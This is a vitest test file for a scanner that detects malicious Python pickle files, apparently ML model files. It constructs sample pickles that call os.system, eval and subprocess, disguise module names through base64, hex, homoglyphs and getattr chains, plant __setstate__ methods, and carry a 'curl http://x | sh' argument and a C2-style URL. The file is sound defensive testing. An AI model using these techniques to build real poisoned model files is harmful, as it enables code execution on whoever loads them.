import { describe, expect, it } from "vitest";
import * as p from "../../builders/pickle.js";
import { findingsOf, rulesOf } from "./scan.js";

const { pickle, proto, global, text, bytes, int, stop, reduce, tuple1, tuple2, tuple3, emptyTuple } = p;

function call(callable: p.Piece, ...args: p.Piece[]): Uint8Array {
  return pickle(proto(4), callable, p.mark, ...args, p.tuple, reduce, stop);
}

describe("callables", () => {
  it.each([
    ["builtins", "eval"],
    ["posix", "system"],
    ["nt", "system"],
    ["subprocess", "Popen"],
    ["importlib", "import_module"],
    ["pickle", "loads"],
    ["torch.hub", "load"],
    ["numpy.testing._private.utils", "runstring"],
    ["asyncio.unix_events", "_UnixSubprocessTransport._start"],
    ["_posixsubprocess", "fork_exec"],
  ])("tells a call of %s.%s as critical", async (module, name) => {
    const [worst] = await findingsOf(call(global(module, name), text("x")));
    expect(worst).toMatchObject({ rule: "pickle/unsafe-call", severity: "critical" });
  });

  it("names the callable as Python would, with its arguments and the offset of the call", async () => {
    const [finding] = await findingsOf(call(global("posix", "system"), text("echo pwned")));
    expect(finding?.message).toContain('os.system("echo pwned")');
    expect(finding?.evidence).toMatchObject({ callable: "posix.system", opcode: "REDUCE" });
    expect(finding?.offset).toBe(30);
  });

  it("tells a dangerous import that is never called", async () => {
    expect(await rulesOf(pickle(proto(4), global("os", "system"), stop))).toContain("pickle/unsafe-import");
  });

  it("looks into the pickles that spaCy keeps for its attributes and documents, and wants them to be constants", async () => {
    const vocab = (getters: p.Piece) =>
      call(global("spacy.vocab", "unpickle_vocab"), p.none, p.none, p.none, p.none, getters, p.none, p.none);
    const doc = (hooks: p.Piece) => call(global("spacy.tokens.doc", "unpickle_doc"), p.none, hooks, bytes("x"));
    const harmless = bytes(pickle(proto(4), p.emptyDict, stop));
    for (const made of [vocab, doc]) {
      expect(await findingsOf(made(harmless))).toEqual([]);
      expect(await rulesOf(made(bytes(p.osSystem().subarray(2))))).toContain("pickle/nested-pickle");
      expect(await rulesOf(made(global("my.code", "payload")))).toContain("pickle/argument");
    }
  });

  it("tells a call of print, which no pickler writes, and not its name alone", async () => {
    expect(await findingsOf(call(global("builtins", "print"), text("pwned")))).toMatchObject([
      { rule: "pickle/argument", severity: "medium" },
    ]);
    expect(await findingsOf(pickle(proto(4), global("builtins", "print"), stop))).toEqual([]);
  });

  it("lets dill name the namespace of a module, and tells what is taken out of it", async () => {
    const severities = async (file: Uint8Array) => (await findingsOf(file)).map(({ severity }) => severity);
    expect(await severities(pickle(proto(4), global("my.code", "__dict__"), stop))).toEqual(["low"]);
    expect(await severities(pickle(proto(4), global("os", "__dict__"), stop))).toEqual(["critical"]);
    const taken = call(global("operator", "getitem"), global("my.code", "__dict__"), text("os"));
    expect(await severities(taken)).toContain("critical");
    const got = call(global("builtins", "dict.get"), global("my.code", "__dict__"), text("os"));
    expect(await severities(got)).toContain("high");
  });

  it("counts a call whose result is thrown away", async () => {
    expect(
      await rulesOf(pickle(proto(4), p.mark, global("os", "system"), text("id"), p.obj, p.pop, p.none, stop)),
    ).toContain("pickle/unsafe-call");
  });

  it("renames Python 2 modules below protocol 3 and not above", async () => {
    const old = (version: number) =>
      pickle(proto(version), global("commands", "getoutput"), text("id"), tuple1, reduce, stop);
    expect((await findingsOf(old(2)))[0]?.message).toContain("subprocess.getoutput");
    expect((await findingsOf(old(4)))[0]?.message).toContain("commands.getoutput");
  });

  it("is silent about what scikit-learn, numpy and torch write", async () => {
    const ordinary = pickle(
      proto(4),
      global("sklearn.linear_model._logistic", "LogisticRegression"),
      emptyTuple,
      p.newobj,
      p.emptyDict,
      text("C"),
      global("numpy.core.multiarray", "scalar"),
      global("numpy", "dtype"),
      text("f8"),
      tuple1,
      reduce,
      bytes("\0\0\0\0\0\0\xf0\x3f"),
      tuple2,
      reduce,
      p.setitem,
      p.build,
      stop,
    );
    expect(await findingsOf(ordinary)).toEqual([]);
  });

  it("grades unknown callables by where they come from and what they are given", async () => {
    const severity = async (module: string, name: string, ...args: p.Piece[]) =>
      (await findingsOf(call(global(module, name), ...args)))[0]?.severity;
    expect(await severity("somewhere.else", "make", int(1))).toBe("medium");
    expect(await severity("somewhere.else", "make", text("https://example.test/x"))).toBe("high");
    expect(await severity("somewhere.else", "make", text("curl http://x | sh"))).toBe("critical");
    expect(await severity("somewhere.else", "load_model", text("a"))).toBe("high");
    expect(await severity("nturl2path", "url2pathname", text("a"))).toBe("high");
    expect(await severity("sklearn.something", "SomeClass", int(1))).toBe("low");
  });

  it("tells the author's own classes as low", async () => {
    const own = pickle(proto(4), global("__main__", "Net"), emptyTuple, p.newobj, stop);
    expect(await findingsOf(own)).toMatchObject([{ rule: "pickle/unknown-class", severity: "low" }]);
  });
});

describe("names", () => {
  it("follows a dotted name to the module it reaches", async () => {
    const [finding] = await findingsOf(call(global("pathlib", "os.system"), text("id")));
    expect(finding).toMatchObject({ rule: "pickle/unsafe-call", severity: "critical" });
  });

  it("takes the worse of a listed module and what a dotted name reaches through it", async () => {
    expect((await findingsOf(call(global("torch.serialization", "os.system"), text("id"))))[0]?.severity).toBe(
      "critical",
    );
  });

  it("tells a walk through double underscores even from a harmless module", async () => {
    const found = await findingsOf(call(global("collections", "OrderedDict.__init__.__globals__.get"), text("sys")));
    expect(found.map(({ rule }) => rule)).toContain("pickle/attribute-walk");
  });

  it.each([
    ["posix ", "system"],
    ["po\u0455ix", "system"],
    ["ｏｓ", "system"],
    ["OS", "system"],
  ])("tells %j.%s as disguised", async (module, name) => {
    expect(await rulesOf(pickle(proto(4), global(module, name), stop))).toContain("pickle/disguised-name");
  });

  it("accepts names of other scripts that look like nothing dangerous", async () => {
    expect(await rulesOf(pickle(proto(4), global("__main__", "Модель"), emptyTuple, p.newobj, stop))).toEqual([
      "pickle/unknown-class",
    ]);
  });

  it.each([
    [
      "str.join",
      pickle(proto(4), global("builtins", "str.join"), text(""), p.mark, text("o"), text("s"), p.tuple, tuple2, reduce),
    ],
    ["bytes.decode", pickle(proto(4), global("builtins", "bytes.decode"), bytes("os"), tuple1, reduce)],
    ["codecs hex", pickle(proto(4), global("codecs", "decode"), text("6f73"), text("hex"), tuple2, reduce)],
    ["base64", pickle(proto(4), global("base64", "b64decode"), text("b3M="), tuple1, reduce)],
    [
      "getattr of a constant",
      pickle(
        proto(4),
        global("builtins", "getattr"),
        text(""),
        text("join"),
        tuple2,
        reduce,
        p.mark,
        text("o"),
        text("s"),
        p.op("LIST"),
        tuple1,
        reduce,
      ),
    ],
    [
      "reversed slice",
      pickle(
        proto(4),
        global("operator", "getitem"),
        text("so"),
        global("builtins", "slice"),
        p.none,
        p.none,
        int(-1),
        tuple3,
        reduce,
        tuple2,
        reduce,
      ),
    ],
  ])("computes a module name made by %s", async (_, head) => {
    const found = await findingsOf(pickle(head, text("system"), p.stackGlobal, text("id"), tuple1, reduce, stop));
    expect(found.map(({ message }) => message).join("\n")).toContain('os.system("id")');
    expect(found.map(({ rule }) => rule)).toContain("pickle/computed-name");
  });

  it("tells a name that cannot be computed", async () => {
    const found = await findingsOf(
      pickle(proto(4), global("secrets", "token_hex"), int(2), tuple1, reduce, text("system"), p.stackGlobal, stop),
    );
    expect(found.find(({ rule }) => rule === "pickle/computed-name")?.severity).toBe("critical");
  });

  it.each([
    [
      "getattr",
      pickle(
        global("builtins", "getattr"),
        global("importlib", "import_module"),
        text("os"),
        tuple1,
        reduce,
        text("system"),
        tuple2,
        reduce,
      ),
    ],
    [
      "vars",
      pickle(
        global("operator", "getitem"),
        global("builtins", "vars"),
        global("builtins", "__import__"),
        text("os"),
        tuple1,
        reduce,
        tuple1,
        reduce,
        text("system"),
        tuple2,
        reduce,
      ),
    ],
    [
      "attrgetter",
      pickle(
        global("operator", "attrgetter"),
        text("system"),
        tuple1,
        reduce,
        global("builtins", "__import__"),
        text("os"),
        tuple1,
        reduce,
        tuple1,
        reduce,
      ),
    ],
    [
      "sys.modules",
      pickle(
        global("builtins", "getattr"),
        global("operator", "getitem"),
        global("sys", "modules"),
        text("os"),
        tuple2,
        reduce,
        text("system"),
        tuple2,
        reduce,
      ),
    ],
  ])("resolves a function reached by %s", async (_, chain) => {
    const found = await findingsOf(pickle(proto(4), chain, text("id"), tuple1, reduce, stop));
    expect(found.map(({ message }) => message).join("\n")).toContain('os.system("id")');
  });
});

describe("callables judged by their arguments", () => {
  it("lets getattr fetch an enum's member and a class's method", async () => {
    const member = pickle(
      proto(4),
      global("builtins", "getattr"),
      global("transformers.trainer_utils", "IntervalStrategy"),
      text("NO"),
      tuple2,
      reduce,
      stop,
    );
    expect(await findingsOf(member)).toEqual([]);
  });

  it("tells getattr of a dunder, and of a name that is no constant", async () => {
    const dunder = pickle(
      proto(4),
      global("builtins", "getattr"),
      global("collections", "OrderedDict"),
      text("__init_subclass__"),
      tuple2,
      reduce,
      stop,
    );
    expect(await rulesOf(dunder)).toContain("pickle/argument");
    const computed = pickle(proto(4), global("builtins", "getattr"), int(1), p.none, tuple2, reduce, stop);
    expect(await rulesOf(computed)).toContain("pickle/argument");
  });

  it("lets _codecs.encode write latin-1 and nothing else", async () => {
    const encoded = (name: string) =>
      pickle(proto(2), global("_codecs", "encode"), text("abc"), text(name), tuple2, reduce, stop);
    expect(await findingsOf(encoded("latin1"))).toEqual([]);
    expect(await rulesOf(encoded("rot13"))).toContain("pickle/argument");
  });

  it("tells an allocation of terabytes and not one of kilobytes", async () => {
    const array = (size: p.Piece) => pickle(proto(4), global("builtins", "bytearray"), size, tuple1, reduce, stop);
    expect(await rulesOf(array([0x8a, 6, 0, 0, 0, 0, 0, 0x20]))).toContain("pickle/memory-bomb");
    expect(await findingsOf(array(int(4096)))).toEqual([]);
  });

  it("accepts copyreg._reconstructor of ordinary bases only", async () => {
    const made = (module: string, name: string) =>
      pickle(
        proto(2),
        global("copy_reg", "_reconstructor"),
        global("sklearn.x", "Model"),
        global(module, name),
        p.none,
        tuple3,
        reduce,
        stop,
      );
    expect(await findingsOf(made("__builtin__", "object"))).toEqual([]);
    expect(await rulesOf(made("ctypes", "CDLL"))).toContain("pickle/unsafe-import");
  });

  it("accepts numpy ufuncs and refuses other modules in their reconstructor", async () => {
    const ufunc = (module: string) =>
      pickle(proto(4), global("numpy.core", "_ufunc_reconstruct"), text(module), text("add"), tuple2, reduce, stop);
    expect(await findingsOf(ufunc("numpy.core._multiarray_umath"))).toEqual([]);
    expect(await rulesOf(ufunc("os"))).toContain("pickle/argument");
  });
});

describe("state and items", () => {
  const namespace = pickle(global("argparse", "Namespace"), emptyTuple, p.newobj);

  it("tells a planted __setstate__ and not an ordinary attribute", async () => {
    const planted = (name: string) =>
      pickle(proto(4), namespace, p.emptyDict, text(name), global("builtins", "print"), p.setitem, p.build, stop);
    expect(await rulesOf(planted("__setstate__"))).toContain("pickle/planted-method");
    expect(await findingsOf(planted("callback"))).toEqual([]);
  });

  it("tells a planted method in the slot state of a pair", async () => {
    const state = pickle(p.none, p.emptyDict, text("__setstate__"), global("builtins", "print"), p.setitem, tuple2);
    expect(await rulesOf(pickle(proto(4), namespace, state, p.build, stop))).toContain("pickle/planted-method");
  });

  it("tells a special method that hides among hundreds of attributes", async () => {
    const filler = Array.from({ length: 200 }, (_, i) => pickle(text(`a${i}`), int(i)));
    const hidden = pickle(
      proto(4),
      namespace,
      p.emptyDict,
      p.mark,
      ...filler,
      text("__setstate__"),
      global("builtins", "print"),
      p.setitems,
      p.build,
      stop,
    );
    expect(await rulesOf(hidden)).toContain("pickle/planted-method");
  });

  it("tells BUILD on an imported class, function or module", async () => {
    const overwrite = pickle(
      proto(4),
      global("torch", "nn"),
      p.none,
      p.emptyDict,
      text("save"),
      global("builtins", "print"),
      p.setitem,
      tuple2,
      p.build,
      stop,
    );
    expect((await findingsOf(overwrite))[0]).toMatchObject({ rule: "pickle/state-overwrite", severity: "critical" });
  });

  it("tells items that go into an imported object, and none that go into a deque", async () => {
    const registry = pickle(proto(4), global("copyreg", "_inverted_registry"), int(7), text("x"), p.setitem, stop);
    expect(await rulesOf(registry)).toContain("pickle/mutation");
    const deque = pickle(proto(4), global("collections", "deque"), emptyTuple, reduce, int(1), p.append, stop);
    expect(await findingsOf(deque)).toEqual([]);
  });

  it("tells SETITEM on something that is no dict (CVE-2026-24747)", async () => {
    const [finding] = await findingsOf(pickle(proto(2), p.emptyList, int(0), int(1), p.setitem, stop));
    expect(finding).toMatchObject({ rule: "pickle/irregular", references: ["CVE-2026-24747"] });
  });

  it("tells extension codes", async () => {
    expect(await rulesOf(pickle(proto(2), p.ext1(7), stop))).toEqual(["pickle/extension-registry"]);
  });

  it("tells the result of a call that is called", async () => {
    const chain = pickle(proto(4), global("somewhere", "Thing"), emptyTuple, reduce, text("x"), tuple1, reduce, stop);
    expect(await rulesOf(chain)).toContain("pickle/result-called");
  });

  it("tells references to objects outside the file, and not those of a torch archive", async () => {
    const reference = pickle(proto(2), text("whatever"), p.binpersid, stop);
    expect(await rulesOf(reference)).toContain("pickle/persistent-id");
  });
});

describe("constants", () => {
  it("looks into bytes that are a pickle, and into base64 and hex of one", async () => {
    const inner = p.osSystem("id", 2);
    for (const constant of [
      bytes(inner),
      text(Buffer.from(inner).toString("base64")),
      text(Buffer.from(inner).toString("hex")),
    ]) {
      const found = await findingsOf(pickle(proto(4), constant, stop));
      expect(found.map(({ rule }) => rule)).toEqual(
        expect.arrayContaining(["pickle/unsafe-call", "pickle/nested-pickle"]),
      );
    }
  });

  it("says nothing about a clean pickle inside a pickle", async () => {
    expect(
      await findingsOf(pickle(proto(4), bytes(pickle(proto(4), text("hello world"), p.memoize, stop)), stop)),
    ).toEqual([]);
  });

  it("says nothing about texts that talk about pickles", async () => {
    expect(await findingsOf(pickle(proto(4), text("cos\nsystem\n(S'ls'\ntR."), stop))).toEqual([]);
  });

  it("tells a credential and an address that only a test would use among the texts", async () => {
    const rules = await rulesOf(pickle(proto(4), text("http://198.51.100.23:8080/c2"), stop));
    expect(rules.some((rule) => rule.startsWith("network/"))).toBe(true);
    expect(await findingsOf(pickle(proto(4), text("https://huggingface.co/bert-base-uncased"), stop))).toEqual([]);
  });
});

it("tells an import of a name that nobody knows, and not of one of a known package", async () => {
  const imported = (module: string, name: string) => pickle(proto(4), global(module, name), stop);
  expect(await findingsOf(imported("somewhere", "thing"))).toMatchObject([
    { rule: "pickle/unknown-import", severity: "low" },
  ]);
  expect(await findingsOf(imported("torch.nn.functional", "conv2d"))).toEqual([]);
});
